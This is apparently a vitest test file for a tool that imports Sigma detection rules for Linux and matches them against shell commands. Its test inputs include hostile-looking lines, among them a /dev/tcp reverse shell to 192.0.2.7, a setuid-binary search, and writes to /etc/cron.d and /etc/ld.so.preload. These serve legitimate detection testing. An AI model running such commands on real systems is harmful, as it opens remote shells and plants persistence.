import { existsSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { gunzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { RuleHit } from "../../../model/index.js";
import { compileRules, createHitMemory, type CompiledRuleset } from "../../index.js";
import { commandFor, compileForTest, sha256, someSubject } from "../../rules.testing.js";
import { importSigma, type SigmaImport, type SigmaOptions } from "./import-sigma.js";
import { encodeBase64 } from "./value.js";

const OPTIONS: SigmaOptions = {
  name: "sigma-test",
  mode: "enforce",
  action: "alert",
  minLevel: "informational",
};
/** Sigma's rules are no part of the project: they are looked for beside it. */
const SIGMA = resolve(
  process.env["CHAPERONE_DATA"] ?? "../shared/data",
  "rules-src/sigma/sigma-linux-rules.tar.gz",
);

function sigma(detection: string, more = ""): string {
  return `title: A rule
id: 64c41342-6b27-523b-5d3f-c265f3efcdb3
status: test
author: Ann Author (Some House), Bob Builder
references: [https://example.com/why]
tags: [attack.execution, attack.t1059]
level: high
logsource: { product: linux, category: process_creation }
${more}
detection:
${detection}`;
}

const imported = (text: string, options = OPTIONS): SigmaImport =>
  importSigma([{ file: "rule.yml", text }], options);

function rulesetOf(text: string): CompiledRuleset {
  const result = imported(text);
  expect(result.refused).toEqual([]);
  return compileForTest(result.pack);
}

const hits = (ruleset: CompiledRuleset, line: string): boolean =>
  ruleset.judge(commandFor(line), someSubject()).length > 0;

describe("a Sigma rule", () => {
  it("carries author, licence and references into every hit", () => {
    const ruleset = rulesetOf(
      sigma("  selection: { Image|endswith: '/nmap' }\n  condition: selection"),
    );
    const [hit] = ruleset.judge(commandFor("sudo nmap -sS db-1"), someSubject());
    expect(hit?.rule).toMatchObject({
      id: "sigma-64c41342-6b27-523b-5d3f-c265f3efcdb3",
      name: "A rule",
      criticality: "high",
      author: ["Ann Author (Some House)", "Bob Builder"],
      license: "DRL-1.1",
      references: ["https://example.com/why", expect.stringContaining("64c41342")],
      tags: ["attack.execution", "attack.t1059"],
    });
  });

  it.each<[string, string, readonly string[], readonly string[]]>([
    [
      "contains, without case",
      "CommandLine|contains: ' -PERM '",
      ["find / -perm -4000"],
      ["find /"],
    ],
    ["contains all", "CommandLine|contains|all: [curl, sh]", ["curl x.sh"], ["curl x"]],
    ["any of a list", "CommandLine|endswith: [.key, .pem]", ["cat a.pem"], ["cat a.pem b"]],
    [
      "a regular expression, with case",
      String.raw`CommandLine|re: 'ba.h -[ci]'`,
      ["bash -c ls"],
      ["bash -C ls"],
    ],
    ["a wildcard", "CommandLine|contains: 'wget*-O /tmp'", ["wget x -O /tmp/y"], ["wget x -O y"]],
    [
      "a wildcard that is none",
      String.raw`CommandLine|contains: 'a\*b'`,
      ["echo 'a*b'"],
      ["echo axb"],
    ],
    ["base64", "CommandLine|base64|contains: '/bin/sh'", ["echo L2Jpbi9zaA=="], ["echo /bin/sh"]],
    [
      "base64 at any offset",
      "CommandLine|base64offset|contains: '/bin/bash'",
      ["echo eHgvYmluL2Jhc2g="],
      ["echo /bin/bash"],
    ],
    ["a network", "CommandLine|cidr: 10.0.0.0/8", [], ["ping 192.0.2.1"]],
    ["a path of a program", "Image|endswith: /tmp/x", ["/tmp/x -a"], ["/srv/x -a"]],
    ["a folder of programs", "Image|startswith: /tmp/", ["/tmp/x"], ["x"]],
    ["where it runs", "CurrentDirectory: /tmp/w", ["cd /tmp/w && ls"], ["cd /srv && ls"]],
    ["who runs it", "User: bob", ["sudo -u bob id"], ["id", "sudo id"]],
    ["who has the session", "User: root", ["id", "sudo id"], []],
    ["what started it", "ParentImage|endswith: /xargs", ["echo x | xargs rm"], ["rm x"]],
    ["what must not be", "CommandLine|contains|neq: secret", ["cat a"], ["cat secret"]],
    ["what is there", "CommandLine|exists: true", ["id"], []],
    ["what is not there", "CommandLine|exists: false", [], ["id"]],
    ["without telling letters apart", "CommandLine|re|i: 'CURL'", ["curl x"], ["wget x"]],
    ["letter by letter", "CommandLine|contains|cased: CURL", ["echo CURL"], ["curl x"]],
    ["any dash", "CommandLine|windash|contains: ' -x '", ["a -x b", "a /x b"], ["a x b"]],
  ])("compares %s", (_name, field, good, bad) => {
    const ruleset = rulesetOf(sigma(`  selection:\n    ${field}\n  condition: selection`));
    for (const line of good) expect(hits(ruleset, line), line).toBe(true);
    for (const line of bad) expect(hits(ruleset, line), line).toBe(false);
  });

  const FOUR = `  a1: { CommandLine|contains: one }
  a2: { CommandLine|contains: two }
  b1: { CommandLine|contains: three }
  _c: { CommandLine|contains: four }`;
  it.each<[string, readonly string[], readonly string[]]>([
    ["a1 and not b1", ["x one"], ["x one three", "x two"]],
    ["1 of a*", ["x two"], ["x three"]],
    ["all of a*", ["x one two"], ["x two"]],
    ["2 of them", ["x one three", "x two three"], ["x one four"]],
    ["not (a1 or a2) and b1", ["x three"], ["x one three"]],
    ["a1 or a2 and b1", ["x one", "x two three"], ["x two"]],
    ["1 of them", ["x three"], ["x four"]],
  ])("with the condition %s", (condition, good, bad) => {
    const ruleset = rulesetOf(sigma(`${FOUR}\n  condition: ${condition}`));
    for (const line of good) expect(hits(ruleset, line), line).toBe(true);
    for (const line of bad) expect(hits(ruleset, line), line).toBe(false);
  });

  it("about records of auditd looks at words by number", () => {
    const text = sigma(
      "  s: { type: EXECVE, a0: cp, a1|startswith: '-', a2|contains: ssh }\n  condition: s",
    ).replace("category: process_creation", "service: auditd");
    const ruleset = rulesetOf(text);
    expect(hits(ruleset, "cp -i /etc/ssh/x y")).toBe(true);
    expect(hits(ruleset, "cp /etc/ssh/x -i")).toBe(false);
  });

  it("of keywords looks at the text of the line", () => {
    const text = sigma("  keywords: ['bash -i >& /dev/tcp/']\n  condition: keywords").replace(
      ", category: process_creation",
      "",
    );
    expect(hits(rulesetOf(text), "bash -i >& /dev/tcp/192.0.2.7/9 0>&1")).toBe(true);
  });

  it("about files is asked of the programs that write them", () => {
    const text = sigma("  s: { TargetFilename|startswith: /etc/cron.d/ }\n  condition: s").replace(
      "process_creation",
      "file_event",
    );
    const ruleset = rulesetOf(text);
    for (const line of ["echo x > /etc/cron.d/a", "cd /etc && cp a cron.d/b"])
      expect(hits(ruleset, line), line).toBe(true);
    for (const line of ["cat /etc/cron.d/a", "echo /etc/cron.d/a", "cp a /etc/cron.daily/"])
      expect(hits(ruleset, line), line).toBe(false);
  });

  it("about paths of auditd is asked of whatever is led to them", () => {
    const text = sigma("  s: { type: PATH, name: /etc/ld.so.preload }\n  condition: s").replace(
      "category: process_creation",
      "service: auditd",
    );
    const ruleset = rulesetOf(text);
    for (const line of ["cat /etc/ld.so.preload", "echo x >> /etc/ld.so.preload"])
      expect(hits(ruleset, line), line).toBe(true);
    for (const line of ["echo /etc/ld.so.preload", "cat /etc/ld.so.conf"])
      expect(hits(ruleset, line), line).toBe(false);
  });

  it.each<[string, readonly string[], readonly string[]]>([
    ["type: ADD_USER", ["useradd x"], ["userdel x"]],
    ["type: SERVICE_STOP, unit: ufw", ["systemctl stop ufw.service"], ["systemctl start ufw"]],
    ["type: SYSCALL, comm: insmod, exe: /usr/bin/kmod", ["insmod x.ko"], ["rmmod x"]],
  ])("about records of auditd with { %s }", (fields, good, bad) => {
    const text = sigma(`  s: { ${fields} }\n  condition: s`).replace(
      "category: process_creation",
      "service: auditd",
    );
    const ruleset = rulesetOf(text);
    for (const line of good) expect(hits(ruleset, line), line).toBe(true);
    for (const line of bad) expect(hits(ruleset, line), line).toBe(false);
  });

  it.each<[string, string, readonly string[], readonly string[]]>([
    [
      "a filter",
      "  s: { Image|endswith: /nc }\n  f: { ParentCommandLine: x }\n  condition: s and not f",
      ["nc a"],
      ["ls"],
    ],
    [
      "one of several ways to hold",
      "  s1: { Image|endswith: /nc }\n  s2: { ParentCommandLine: x }\n  condition: 1 of s*",
      ["nc a"],
      ["ls"],
    ],
  ])("is imported without %s that can not be expressed, which is told", (_n, text, good, bad) => {
    const result = imported(sigma(text));
    expect(result.refused).toEqual([]);
    expect(result.lossy.map((one) => one.message)).toEqual([
      expect.stringMatching(/A rule: imported without field "ParentCommandLine"/),
    ]);
    expect(result.pack).toContain("Imported without");
    const ruleset = compileForTest(result.pack);
    for (const line of good) expect(hits(ruleset, line), line).toBe(true);
    for (const line of bad) expect(hits(ruleset, line), line).toBe(false);
  });

  it("takes its placeholders from lists of the same name", () => {
    const { pack } = imported(sigma("  s: { User|expand: '%admins%' }\n  condition: s"));
    const lists = `apiVersion: chaperone/v1
kind: Lists
metadata: { name: ours, version: 1.0.0 }
lists: { admins: [ann, bob] }`;
    const ruleset = compileForTest(pack, lists);
    expect(hits(ruleset, "sudo -u bob id")).toBe(true);
    expect(hits(ruleset, "sudo -u eve id")).toBe(false);
  });

  const PARTS = `${sigma("  s: { Image|endswith: /one }\n  condition: s").replace("A rule", "One").replace("status: test", "name: first")}
---
${sigma("  s: { Image|endswith: /two }\n  condition: s").replace("A rule", "Two").replace("fcdb3", "fcdb4").replace("status: test", "name: second")}
---
title: Together
id: 74c41342-6b27-523b-5d3f-c265f3efcdb3
author: Cy
level: high
correlation:`;
  it.each<[string, string, readonly string[], readonly string[]]>([
    [
      "so often",
      "  type: event_count\n  rules: [first]\n  group-by: [User]\n  timespan: 5m\n  condition: { gte: 3 }",
      ["one", "one", "one"],
      ["one", "one"],
    ],
    [
      "more often than",
      "  type: event_count\n  rules: [first, second]\n  group-by: [User]\n  timespan: 5m\n  condition: { gt: 1 }",
      ["one", "two"],
      ["two"],
    ],
    [
      "with different values",
      "  type: value_count\n  rules: [first, second]\n  group-by: [User]\n  timespan: 5m\n  condition: { field: Image, gte: 2 }",
      ["one", "two"],
      ["one", "one"],
    ],
    [
      "in any order",
      "  type: temporal\n  rules: [first, second]\n  group-by: [User]\n  timespan: 5m",
      ["two", "one"],
      ["one", "one"],
    ],
    [
      "in their order",
      "  type: temporal_ordered\n  rules: [first, second]\n  group-by: [User]\n  timespan: 5m",
      ["one", "two"],
      ["two", "one"],
    ],
  ])("that counts others, %s, holds over a session", (_name, body, good, bad) => {
    const result = imported(`${PARTS}\n${body}`);
    expect(result.refused).toEqual([]);
    const ruleset = compileForTest(result.pack);
    const together = (lines: readonly string[]): boolean => {
      const memory = createHitMemory();
      const session = someSubject();
      let found: readonly RuleHit[] = [];
      for (const line of lines) {
        const moment = commandFor(line);
        const correlated = ruleset.correlate(ruleset.judge(moment, session), {
          memory,
          session,
          moment,
        });
        found = correlated.hits;
        for (const mark of correlated.marks) memory.add(mark);
      }
      return found.some(({ rule }) => rule.name === "Together" && rule.author.includes("Cy"));
    };
    expect(together(good)).toBe(true);
    expect(together(bad)).toBe(false);
  });

  it.each([
    [
      "a field nobody knows",
      sigma("  s: { IntegrityLevel: System }\n  condition: s"),
      /field "IntegrityLevel"/,
    ],
    [
      "a part of a rule",
      sigma("  s: { Image|endswith: /x, LogonId: 0 }\n  condition: s"),
      /no login has started/,
    ],
    [
      "what started it by its folder",
      sigma("  s: { ParentImage|startswith: /tmp/ }\n  condition: s"),
      /"ParentImage" by its folder/,
    ],
    [
      "a filter that says all that it says",
      sigma("  s: { ParentCommandLine: x }\n  condition: not s"),
      /"ParentCommandLine"/,
    ],
    [
      "a modifier",
      sigma("  s: { CommandLine|fieldref: Image }\n  condition: s"),
      /modifier "fieldref"/,
    ],
    ["an absent value", sigma("  s: { CommandLine: null }\n  condition: s"), /absent value/],
    ["a count", sigma("  s: { Image: /x }\n  condition: s | count() > 5"), /aggregation/],
    [
      "a selection that is not there",
      sigma("  s: { Image: /x }\n  condition: s and t"),
      /no selection "t"/,
    ],
    ["an open parenthesis", sigma("  s: { Image: /x }\n  condition: (s"), /parenthesis/],
    ["a time", sigma("  s: { Image: /x }\n  condition: s\n  timeframe: 5m"), /timeframe/],
    [
      "another log",
      sigma("  s: { a: b }\n  condition: s").replace("process_creation", "network_connection"),
      /network_connection/,
    ],
    [
      "a correlation of nobody",
      "title: C\ncorrelation: { type: event_count, group-by: [User], timespan: 5m, condition: { gte: 2 } }",
      /no rules/,
    ],
    [
      "a correlation of what is not there",
      "title: C\ncorrelation: { type: event_count, rules: [x], group-by: [User], timespan: 5m, condition: { gte: 2 } }",
      /rule "x", which is not among the files/,
    ],
    [
      "a correlation of everything",
      "title: C\ncorrelation: { type: event_count, rules: [x], timespan: 5m, condition: { gte: 2 } }",
      /not grouped by anything/,
    ],
    [
      "a correlation that counts what is few",
      "title: C\ncorrelation: { type: event_count, rules: [x], group-by: [User], timespan: 5m, condition: { lt: 2 } }",
      /condition "lt"/,
    ],
  ])("with %s is refused whole, by name", (_name, text, message) => {
    const result = imported(text);
    expect(result.imported).toBe(0);
    expect(result.refused.map((one) => one.message).join("\n")).toMatch(message);
    expect(result.refused.every((one) => one.at !== undefined)).toBe(true);
  });

  it("below the level that was asked for is left out", () => {
    const text = sigma("  s: { Image: /x }\n  condition: s").replace("level: high", "level: low");
    expect(imported(text, { ...OPTIONS, minLevel: "medium" })).toMatchObject({
      imported: 0,
      left: ["rule.yml"],
    });
  });

  it("of any shape never throws", () => {
    const word = fc.constantFrom(
      "title",
      "detection",
      "condition",
      "s",
      "1 of s*",
      "(",
      "not",
      "logsource",
      "product",
      "linux",
      "category",
      "process_creation",
      "CommandLine|contains",
      "x*",
      null,
      7,
    );
    const tree = fc.letrec((tie) => ({
      node: fc.oneof(
        { depthSize: "small" },
        word,
        fc.array(tie("node"), { maxLength: 3 }),
        fc.dictionary(word.map(String), tie("node"), { maxKeys: 4 }),
      ),
    })).node;
    fc.assert(
      fc.property(tree, (value) => {
        const { pack } = imported(JSON.stringify(value));
        expect(compileRules([{ file: "x.yaml", text: pack }], { sha256 }).ok).toBe(true);
      }),
      { numRuns: 200 },
    );
  });
});

describe("base64", () => {
  it("is what others make of it", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 50 }), (bytes) => {
        expect(encodeBase64(bytes)).toBe(Buffer.from(bytes).toString("base64"));
      }),
    );
  });
});

describe.skipIf(!existsSync(SIGMA))("Sigma's own rules for Linux", () => {
  it("are imported where they are about commands, and the others named", () => {
    const files = untar(gunzipSync(readFileSync(SIGMA)));
    const result = importSigma(files, OPTIONS);
    expect(result.imported).toBeGreaterThanOrEqual(190);
    expect(result.imported + new Set(result.refused.map((one) => one.at?.file)).size).toBe(
      files.length,
    );
    const ruleset = compileForTest(result.pack);
    expect(ruleset.size).toBe(result.imported);
    expect(hits(ruleset, "sudo find / -perm -4000")).toBe(true);
  });
});

/** Files of an archive in ustar form (POSIX.1-1988). */
function untar(archive: Buffer): readonly { readonly file: string; readonly text: string }[] {
  const files: { file: string; text: string }[] = [];
  for (let at = 0; at + 512 <= archive.length;) {
    const field = (from: number, length: number): string =>
      archive.toString("utf8", at + from, at + from + length).split("\0")[0] ?? "";
    const size = parseInt(field(124, 12).trim() || "0", 8);
    const file = join(field(345, 155), field(0, 100));
    if (file.endsWith(".yml"))
      files.push({ file, text: archive.toString("utf8", at + 512, at + 512 + size) });
    at += 512 + Math.ceil(size / 512) * 512;
  }
  return files;
}
